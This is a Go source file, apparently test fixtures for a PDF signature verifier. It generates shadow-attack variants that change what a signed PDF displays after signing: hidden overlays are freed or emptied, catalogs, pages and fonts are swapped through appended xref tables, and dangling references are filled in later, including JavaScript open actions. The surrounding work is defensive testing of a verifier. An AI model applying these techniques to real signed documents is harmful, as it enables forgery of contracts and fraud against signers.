package attacks

import (
	"bytes"
	"fmt"
	"strconv"

	"countersign/worker/pdf/pdftest/paper"
)

// The numbers of what an author hid before it was signed.
const (
	overlay = iota + 60
	overlaid
	secretPage
	secretText
	secretTree
	secretCatalog
	secretFont
	missing
)

// resourcesOf are the first page's resources with one more form XObject.
func resourcesOf(name string, n int) string {
	return "<</Font<</F1 " + paper.R(paper.Font) + ">>/XObject<</Logo " + paper.R(paper.Logo) + "/" + name + " " +
		paper.R(n) + ">>>>"
}

// hidden are shadow attacks: what the attacker wants to be read lay in the file when it was signed.
func hidden() []paper.Step {
	over := func(kind string) func(d *paper.Doc) { // the dear rent lies under something innocent
		return func(d *paper.Doc) {
			d.Set(paper.Contents, d.Get(paper.Contents).Saying(raised))
			white := form("1 g 0 0 300 200 re f 0 g BT /F1 12 Tf 20 140 Td (Rent: 1000 EUR a month) Tj ET")
			d.Set(overlay, white)
			if kind == "annotation" {
				d.Set(overlaid, paper.D("Type", "/Annot", "Subtype", "/Stamp", "F", "4", "Rect", "[0 0 300 200]", "AP",
					"<</N "+paper.R(overlay)+">>"))
				d.Annotate(overlaid)
				d.Alter(paper.Page, "Annots", paper.Rs(d.Annots()...))
				return
			}
			d.Set(paper.Contents, d.Get(paper.Contents).Saying(raised+"\n/Over Do"))
			d.Alter(paper.Page, "Resources", resourcesOf("Over", overlay))
		}
	}
	hide := func(name, kind string, do func(d *paper.Doc)) paper.Step {
		return on(paper.Prepared(over(kind)), "hide: "+name, dearer, save(do))
	}
	return append([]paper.Step{
		hide("an overlay that is freed", "form", func(d *paper.Doc) { d.Free(overlay) }),
		hide("an overlay that becomes null", "form", func(d *paper.Doc) { d.Set(overlay, paper.T("null")) }),
		hide("an overlay that becomes metadata", "form", func(d *paper.Doc) {
			d.Alter(overlay, "Type", "/Metadata", "Subtype", "/XML")
		}),
		hide("an overlay that is empty", "form", func(d *paper.Doc) { d.Set(overlay, form(" ")) }),
		hide("an overlay that is not named", "form", func(d *paper.Doc) {
			d.Alter(paper.Page, "Resources", resourcesOf("Other", overlay))
		}),
		hide("an overlaid annotation that is freed", "annotation", func(d *paper.Doc) { d.Free(overlaid) }),
		hide("an overlaid annotation that is hidden", "annotation", func(d *paper.Doc) { d.Alter(overlaid, "F", "2") }),
		hide("an overlaid annotation without a look", "annotation", func(d *paper.Doc) { d.Alter(overlaid, "AP", "") }),
	}, replaced()...)
}

// replaced are the forms of shadow attacks in which a hidden text takes the place of the signed one.
func replaced() []paper.Step {
	inside := paper.Prepared(func(d *paper.Doc) { // a whole document, reached by nothing
		d.Set(secretText, paper.S(raised))
		d.Set(secretFont, other())
		d.Set(secretPage, d.Get(paper.Page).With("Parent", paper.R(secretTree), "Contents", paper.R(secretText)))
		d.Set(secretTree, paper.D("Type", "/Pages", "Kids", paper.Rs(secretPage), "Count", "1"))
		d.Set(secretCatalog, d.Get(paper.Catalog).With("Pages", paper.R(secretTree), "AcroForm", paper.R(paper.Form)))
	})
	swap := func(name string, do func(d *paper.Doc)) paper.Step {
		return on(inside, "hide and replace: "+name, dearer, save(do))
	}
	twin := paper.Prepared(func(d *paper.Doc) { // a second form of the content, under the same number
		d.Append(fmt.Sprintf("%%PDF-1.7\n%d 0 obj\n%s\nendobj\n", paper.Contents, d.Text(paper.S(raised))))
	})
	return []paper.Step{
		swap("another catalog by the trailer alone", func(d *paper.Doc) { d.Root = secretCatalog }),
		swap("another page tree", func(d *paper.Doc) { d.Alter(paper.Catalog, "Pages", paper.R(secretTree)) }),
		swap("another page", func(d *paper.Doc) { d.Alter(paper.Pages, "Kids", paper.Rs(secretPage, paper.Page2)) }),
		swap("another content", func(d *paper.Doc) { d.Alter(paper.Page, "Contents", paper.R(secretText)) }),
		swap("another font", func(d *paper.Doc) {
			d.Alter(paper.Page, "Resources", "<</Font<</F1 "+paper.R(secretFont)+">>/XObject<</Logo "+
				paper.R(paper.Logo)+">>>>")
		}),
		on(twin, "hide and replace: only the table leads elsewhere", dearer, func(d *paper.Doc) {
			at := bytes.Index(d.Raw(), []byte(strconv.Itoa(paper.Contents)+" 0 obj"))
			pointed(d, map[int]int{paper.Contents: at})
		}),
		on(inside, "hide and replace: the table takes one object for another", dearer, func(d *paper.Doc) {
			at := bytes.Index(d.Raw(), []byte(strconv.Itoa(secretText)+" 0 obj"))
			pointed(d, map[int]int{paper.Contents: at})
		}),
	}
}

// pointed appends a classic table, and nothing else, that finds objects at other places.
func pointed(d *paper.Doc, at map[int]int) {
	var b bytes.Buffer
	begin := len(d.Raw())
	b.WriteString("xref\n")
	for n, where := range at {
		fmt.Fprintf(&b, "%d 1\n%010d 00000 n \n", n, where)
	}
	fmt.Fprintf(&b, "trailer\n<</Size %d/Root %s/Prev %d>>\nstartxref\n%d\n%%%%EOF\n", d.Next(), paper.R(d.Root), d.Prev,
		begin)
	d.Append(b.String())
}

// dangling are references that led nowhere when the file was signed, and lead to something now.
func dangling() []paper.Step {
	to := func(name string, before func(d *paper.Doc), o func(d *paper.Doc) paper.Object) paper.Step {
		return on(paper.Prepared(before), "dangling: "+name, "9000 stands over the rent", save(func(d *paper.Doc) {
			d.Set(missing, o(d))
		}))
	}
	covers := func(*paper.Doc) paper.Object { return form(cover) }
	stamp := func(d *paper.Doc) paper.Object { return d.Get(covering(d, "Stamp")) }
	return []paper.Step{
		to("a content stream", func(d *paper.Doc) { d.Alter(paper.Page, "Contents", paper.Rs(paper.Contents, missing)) },
			func(*paper.Doc) paper.Object { return paper.S(cover) }),
		to("an array of contents", func(d *paper.Doc) { d.Alter(paper.Page2, "Contents", paper.R(missing)) },
			func(d *paper.Doc) paper.Object { return paper.T(paper.Rs(paper.Contents2, d.Add(paper.S(cover)))) }),
		to("an annotation", func(d *paper.Doc) {
			d.Annotate(missing)
			d.Alter(paper.Page, "Annots", paper.Rs(d.Annots()...))
		}, stamp),
		to("annotations", func(d *paper.Doc) { d.Alter(paper.Page2, "Annots", paper.R(missing)) },
			func(d *paper.Doc) paper.Object { return paper.T(paper.Rs(covering(d, "Stamp"))) }),
		to("an appearance", func(d *paper.Doc) {
			d.Alter(paper.Stamp, "AP", "<</N "+paper.R(missing)+">>", "Rect", "[0 0 300 200]")
		}, covers),
		to("appearances", func(d *paper.Doc) { d.Alter(paper.Stamp, "AP", paper.R(missing), "Rect", "[0 0 300 200]") },
			func(d *paper.Doc) paper.Object { return paper.D("N", paper.R(d.Add(form(cover)))) }),
		to("a form XObject", func(d *paper.Doc) {
			d.Set(paper.Contents, d.Get(paper.Contents).Saying(paper.Text+"\n/Over Do"))
			d.Alter(paper.Page, "Resources", resourcesOf("Over", missing))
		}, covers),
		to("resources", func(d *paper.Doc) { d.Alter(paper.Page2, "Resources", paper.R(missing)) },
			func(d *paper.Doc) paper.Object { return paper.D("Font", "<</F1 "+paper.R(d.Add(other()))+">>") }),
		to("a font", func(d *paper.Doc) { d.Alter(paper.Page2, "Resources", "<</Font<</F1 "+paper.R(missing)+">>>>") },
			func(*paper.Doc) paper.Object { return other() }),
		to("a page", func(d *paper.Doc) {
			d.Alter(paper.Pages, "Kids", paper.Rs(paper.Page, paper.Page2, missing), "Count", "3")
		}, func(d *paper.Doc) paper.Object { return d.Get(paper.Page2) }),
		to("a field", func(d *paper.Doc) {
			d.Field(missing, true)
			d.Alter(paper.Page, "Annots", paper.Rs(d.Annots()...))
			d.Alter(paper.Form, "Fields", paper.Rs(d.Fields()...))
		}, func(d *paper.Doc) paper.Object { return d.Get(covering(d, "Widget", "FT", "/Tx", "T", "(x)")) }),
		to("names", func(d *paper.Doc) { d.Alter(paper.Catalog, "Names", paper.R(missing)) },
			func(*paper.Doc) paper.Object {
				return paper.D("JavaScript", "<</Names[(a) <</S/JavaScript/JS(app.alert\\(1\\))>>]>>")
			}),
		to("an action", func(d *paper.Doc) { d.Alter(paper.Catalog, "OpenAction", paper.R(missing)) },
			func(*paper.Doc) paper.Object { return paper.D("S", "/JavaScript", "JS", "(app.alert\\(1\\))") }),
		to("a size", func(d *paper.Doc) { d.Alter(paper.Page, "CropBox", paper.R(missing)) },
			func(*paper.Doc) paper.Object { return paper.T("[0 150 300 200]") }),
		to("a layer", func(d *paper.Doc) {
			d.Alter(paper.Logo, "OC", paper.R(missing))
			d.Alter(paper.Catalog, "OCProperties", "<</OCGs"+paper.Rs(missing)+"/D<</OFF"+paper.Rs(missing)+">>>>")
		}, func(*paper.Doc) paper.Object { return paper.D("Type", "/OCG", "Name", "(x)") }),
	}
}
